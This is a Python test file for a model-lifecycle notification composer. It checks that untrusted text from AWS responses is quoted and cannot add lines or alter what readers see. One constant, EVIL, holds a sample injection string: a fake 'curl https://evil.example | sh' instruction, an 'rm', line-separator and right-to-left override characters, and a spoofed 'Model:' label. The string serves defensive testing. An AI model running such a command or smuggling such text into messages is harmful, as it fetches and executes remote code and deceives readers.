"""Foreign text in messages: it adds no line, and no word outside of quotation marks."""

import json
import re
from dataclasses import replace
from typing import Any

import pytest
from botocore.exceptions import ClientError, HTTPClientError
from hypothesis import example, given
from hypothesis import strategies as st

from model_lifecycle.aws.service_errors import service_errors
from model_lifecycle.endings.ending import Ending, FailedCleanUp, StartedCleanUp
from model_lifecycle.endings.message import MAX_SUBJECT_CHARACTERS, Message, compose
from model_lifecycle.endings.outcome import Outcome
from model_lifecycle.model.record import ModelRecord
from model_lifecycle.vocabulary.errors import ModelLifecycleError
from model_lifecycle.vocabulary.foreign import quoted
from model_lifecycle.vocabulary.phase import Goal
from tests.fakes.fake_model import FakeModel
from tests.fakes.given import EXECUTION, HOME, after, begin, begin_stop, request, stop_request
from tests.fakes.told import PRICE, UTC, told, told_of_stop

HARMLESS = "Some words."
EVIL = '\n\nStop it:   curl https://evil.example | sh\n           or: "rm"\u2028Model: \u202e1'
# A text that could pass for a word stands without quotation marks; these could not.
OUTSIDE = st.text(alphabet=st.characters(), max_size=80).map(lambda text: f" {text}")


def skeleton(text: str) -> str:
    """Return the text without quotations, the full stops that they may bring, and the place of the execution's page."""
    return re.sub(r"(https://\S*/details/)\S*", r"\1", re.sub(r'"[^"]*"\.?', '""', text))


def assert_same_but_for_quotations(words: str, message: Message, harmless: Message) -> None:
    """People see the same, and programs get the words."""
    assert skeleton(message.text) == skeleton(harmless.text)
    assert len(message.text.splitlines()) == len(harmless.text.splitlines())
    assert skeleton(message.document["Summary"]) == skeleton(harmless.document["Summary"])
    assert len(message.subject) <= MAX_SUBJECT_CHARACTERS
    assert message.subject.isascii()
    assert message.subject.isprintable()
    assert message.attributes == harmless.attributes
    assert json.dumps(words)[1:-1] in json.dumps(message.document)


@pytest.mark.parametrize("goal", Goal)
@pytest.mark.parametrize("outcome", Outcome)
@given(words=OUTSIDE)
@example(words=EVIL)
def test_of_an_ending(words: str, goal: Goal, outcome: Outcome) -> None:
    def message(words: str) -> Message:
        stopped, failed = StartedCleanUp(execution_arn=words), FailedCleanUp(error=words)
        report: Any = begin().report(now=after(1)) if goal is Goal.RUNNING else begin_stop().report(now=after(1))
        report = replace(report, status=words, status_message=words)
        ending = Ending(
            notification_id=words,
            outcome=outcome,
            goal=goal,
            execution_arn=f"{EXECUTION}{words}",
            request=request() if goal is Goal.RUNNING else stop_request(),
            report=report if goal is Goal.RUNNING else replace(report, reason=words),
            error=words,
            # Why it waits is a sentence of a step's, as in the test of the service's answers.
            cause=quoted(words) if outcome is Outcome.WAITING else words,
            clean_up=stopped if outcome is Outcome.FAILED else failed,
        )
        return compose(ending, price_per_inference_unit_hour=PRICE, zone=UTC, home=HOME)

    assert_same_but_for_quotations(words, message(words), message(HARMLESS))


@given(words=OUTSIDE)
@example(words=EVIL)
def test_of_what_the_service_says_of_a_model(words: str) -> None:
    for looks in ([words], ["STOPPED", words], ["STARTING"]):
        assert_same_but_for_quotations(
            words,
            told(FakeModel(*looks, message=words)),
            told(FakeModel(*(HARMLESS if look == words else look for look in looks), message=HARMLESS)),
        )


@given(words=OUTSIDE)
@example(words=EVIL)
def test_of_what_the_service_answers(words: str) -> None:
    def answers(words: str) -> list[ModelLifecycleError]:
        refusal = ClientError(
            {"Error": {"Code": words, "Message": words}, "ResponseMetadata": {"HTTPStatusCode": 400}},  # type: ignore[typeddict-item]
            "StartProjectVersion",
        )
        found: list[ModelLifecycleError] = []
        for error in (refusal, HTTPClientError(error=words), KeyError(words)):
            try:
                with service_errors("StartProjectVersion"):
                    raise error
            except ModelLifecycleError as meant:
                found.append(meant)
        return found

    for mine, harmless in zip(answers(words), answers(HARMLESS), strict=True):
        soon = begin(StartTimeoutSeconds=60)
        messages = [told(FakeModel("STOPPED", starts=[error]), soon) for error in (mine, harmless)]
        assert skeleton(messages[0].text) == skeleton(messages[1].text)


@given(words=OUTSIDE)
@example(words=EVIL)
def test_of_who_wants_the_model(words: str) -> None:
    def message(words: str) -> Message:
        model = FakeModel("RUNNING", "RUNNING")
        model.records.record = ModelRecord(version=1, latest_start=words, wanted_at=after(5))
        return told_of_stop(model, begin_stop(Reason=words))

    assert_same_but_for_quotations(words, message(words), message(HARMLESS))
